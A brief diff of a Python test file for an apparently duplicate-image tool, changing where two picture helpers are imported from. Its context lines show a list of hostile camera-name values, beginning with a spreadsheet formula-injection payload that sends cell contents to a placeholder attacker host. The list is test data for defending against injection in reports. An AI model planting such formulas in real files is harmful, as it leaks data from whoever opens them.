@@ -16,7 +16,7 @@ import pytest
 from dupeviewer import report
 from dupeviewer.cli import main
 from dupeviewer.core.model import Group, ImageInfo, Member, ScanResult, Skipped, Stats
-from tests.conftest import exif_with, photo_like
+from tests.helpers.pictures import exif_with, photo_like
 
 HOSTILE_CAMERAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
